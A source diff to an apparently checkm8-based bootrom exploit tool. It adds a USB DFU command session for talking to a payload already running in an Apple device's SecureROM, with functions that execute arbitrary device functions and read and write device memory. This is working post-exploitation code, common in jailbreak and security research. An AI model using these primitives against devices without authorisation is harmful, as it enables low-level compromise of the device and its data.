@@ -1,5 +1,9 @@
 #include <exploit/exploit-utils.h>
 
+typedef struct {
+	uint64_t magic, pad, destination, source, length;
+} memc_cmd_t;
+
 bool checkm8ExecuteCommand(usb_handle_t *handle, void *request_data, size_t request_len, uint8_t **response, size_t response_len) {
 	transfer_ret_t transfer_ret;
 	bool ret = false;
@@ -17,15 +21,140 @@ bool checkm8ExecuteCommand(usb_handle_t *handle, void *request_data, size_t requ
 	return ret;
 }
 
-// TODO!
-// bool checkm8ReadMemory(usb_handle_t *handle, void* address, uint32_t **out, size_t out_len) {
-//     uint8_t data[DFU_MAX_TRANSFER_SIZE], *response;
-// 	struct {
-// 		uint64_t magic, func, x[8];
-// 	} exec_cmd;
+// Purpose: Start a manifest, so the next command is loaded from the start of the buffer again,
+//          stopping before the last GETSTATUS that would make the SecureROM restart DFU
+static bool checkm8RewindCommandBuffer(const usb_handle_t *handle) {
+	transfer_ret_t transfer_ret;
+	uint8_t status[6];
+
+	return sendUSBControlRequestNoData(handle, 0x21, DFU_DNLOAD, 0, 0, 0, &transfer_ret) && transfer_ret.ret == USB_TRANSFER_OK
+	&& sendUSBControlRequest(handle, 0xA1, DFU_GETSTATUS, 0, 0, status, sizeof(status), &transfer_ret) && transfer_ret.ret == USB_TRANSFER_OK
+	&& sendUSBControlRequest(handle, 0xA1, DFU_GETSTATUS, 0, 0, status, sizeof(status), &transfer_ret) && transfer_ret.ret == USB_TRANSFER_OK;
+}
 
-//     exec_cmd.magic = EXEC_MAGIC;
-//     exec_cmd.func = memcpy_addr;
-// 	exec_cmd.x[0] = (uint64_t) data;
-// }
+bool checkm8OpenCommandSession(checkm8_command_session_t *session, usb_handle_t *handle) {
+	transfer_ret_t transfer_ret;
+	uint8_t blank[16] = {0};
 
+	memset(session, 0, sizeof(checkm8_command_session_t));
+	session->handle = handle;
+	session->minLatency = UINT64_MAX;
+	if(!waitUSBHandle(handle, NULL, NULL)) {
+		return false;
+	}
+	// Whatever was left in the buffer is overwritten and rewound, so the first command is loaded where the payload reads it
+	if(!sendUSBControlRequest(handle, 0x21, DFU_DNLOAD, 0, 0, blank, sizeof(blank), &transfer_ret) || transfer_ret.ret != USB_TRANSFER_OK
+	|| !checkm8RewindCommandBuffer(handle)) {
+		LOG(LOG_ERROR, "Failed to prepare the device for commands");
+		closeUSBHandle(handle);
+		return false;
+	}
+	return true;
+}
+
+bool checkm8SessionCommand(checkm8_command_session_t *session, const void *request, size_t requestLength, void *response, size_t responseLength) {
+	const uint8_t *data = request;
+	transfer_ret_t transfer_ret;
+	size_t i, packet_sz;
+	uint64_t start = getMonotonicTime();
+	bool ret = responseLength >= CHECKM8_COMMAND_REPLY_SIZE && responseLength <= DFU_MAX_TRANSFER_SIZE;
+
+	for(i = 0; ret && i < requestLength; i += packet_sz) {
+		packet_sz = MIN(requestLength - i, DFU_MAX_TRANSFER_SIZE);
+		ret = sendUSBControlRequest(session->handle, 0x21, DFU_DNLOAD, 0, 0, (void *)&data[i], packet_sz, &transfer_ret) && transfer_ret.ret == USB_TRANSFER_OK && transfer_ret.sz == packet_sz;
+	}
+	ret = ret && sendUSBControlRequest(session->handle, 0xA1, DFU_UPLOAD, 0xFFFF, 0, response, responseLength, &transfer_ret)
+	&& transfer_ret.ret == USB_TRANSFER_OK && transfer_ret.sz == responseLength;
+	// Rewound even after a failure, so it doesn't move where the next command is loaded
+	ret = checkm8RewindCommandBuffer(session->handle) && ret;
+
+	session->lastLatency = getMonotonicTime() - start;
+	session->commands++;
+	session->failures += !ret;
+	session->totalLatency += session->lastLatency;
+	session->minLatency = MIN(session->minLatency, session->lastLatency);
+	session->maxLatency = MAX(session->maxLatency, session->lastLatency);
+	LOG(LOG_DEBUG, "Command of 0x%zX bytes %s in %.3fms", requestLength, ret ? "ran" : "failed", session->lastLatency / 1e6);
+	return ret;
+}
+
+bool checkm8SessionExec(checkm8_command_session_t *session, uint64_t function, const uint64_t *arguments, size_t count, uint64_t *retval) {
+	struct {
+		uint64_t magic, function, x[CHECKM8_COMMAND_MAX_ARGUMENTS];
+	} exec_cmd = { EXEC_MAGIC, function, {0} };
+	uint64_t reply[2];
+
+	if(count > CHECKM8_COMMAND_MAX_ARGUMENTS) {
+		return false;
+	}
+	if(count != 0) {
+		memcpy(exec_cmd.x, arguments, count * sizeof(uint64_t));
+	}
+	if(!checkm8SessionCommand(session, &exec_cmd, sizeof(exec_cmd), reply, sizeof(reply)) || reply[0] != DONE_MAGIC) {
+		return false;
+	}
+	if(retval != NULL) {
+		*retval = reply[1];
+	}
+	return true;
+}
+
+bool checkm8SessionMemcpy(checkm8_command_session_t *session, uint64_t destination, uint64_t source, size_t length) {
+	memc_cmd_t memc_cmd = { MEMC_MAGIC, 0, destination, source, length };
+	uint64_t reply[2];
+
+	return checkm8SessionCommand(session, &memc_cmd, sizeof(memc_cmd), reply, sizeof(reply)) && reply[0] == DONE_MAGIC;
+}
+
+bool checkm8SessionReadMemory(checkm8_command_session_t *session, uint64_t address, void *buffer, size_t length) {
+	memc_cmd_t memc_cmd = { MEMC_MAGIC, 0, insecure_memory_base + CHECKM8_COMMAND_REPLY_SIZE, 0, 0 };
+	uint64_t reply[DFU_MAX_TRANSFER_SIZE / sizeof(uint64_t)];
+	size_t i, chunk;
+
+	// The memory is copied to just after where the payload writes its reply, so it comes back with it
+	for(i = 0; i < length; i += chunk) {
+		chunk = MIN(length - i, DFU_MAX_TRANSFER_SIZE - CHECKM8_COMMAND_REPLY_SIZE);
+		memc_cmd.source = address + i;
+		memc_cmd.length = chunk;
+		if(!checkm8SessionCommand(session, &memc_cmd, sizeof(memc_cmd), reply, CHECKM8_COMMAND_REPLY_SIZE + chunk) || reply[0] != DONE_MAGIC) {
+			return false;
+		}
+		memcpy((uint8_t *)buffer + i, (uint8_t *)reply + CHECKM8_COMMAND_REPLY_SIZE, chunk);
+	}
+	return true;
+}
+
+bool checkm8SessionWriteMemory(checkm8_command_session_t *session, uint64_t address, const void *data, size_t length) {
+	struct {
+		memc_cmd_t cmd;
+		uint8_t data[DFU_MAX_TRANSFER_SIZE - sizeof(memc_cmd_t)];
+	} write_cmd = { { MEMC_MAGIC, 0, 0, insecure_memory_base + sizeof(memc_cmd_t), 0 } };
+	uint64_t reply[2];
+	size_t i, chunk;
+
+	// The data follows the command in the same download, and is copied from the load buffer
+	for(i = 0; i < length; i += chunk) {
+		chunk = MIN(length - i, sizeof(write_cmd.data));
+		write_cmd.cmd.destination = address + i;
+		write_cmd.cmd.length = chunk;
+		memcpy(write_cmd.data, (const uint8_t *)data + i, chunk);
+		if(!checkm8SessionCommand(session, &write_cmd, sizeof(memc_cmd_t) + chunk, reply, sizeof(reply)) || reply[0] != DONE_MAGIC) {
+			return false;
+		}
+	}
+	return true;
+}
+
+void checkm8PrintCommandSession(const checkm8_command_session_t *session) {
+	if(session->commands == 0) {
+		LOG(LOG_INFO, "No commands were sent");
+		return;
+	}
+	LOG(LOG_INFO, "Sent %llu commands, %llu failed, latency min %.3fms, mean %.3fms, max %.3fms",
+		(unsigned long long)session->commands, (unsigned long long)session->failures, session->minLatency / 1e6,
+		session->totalLatency / 1e6 / session->commands, session->maxLatency / 1e6);
+}
+
+void checkm8CloseCommandSession(checkm8_command_session_t *session) {
+	closeUSBHandle(session->handle);
+}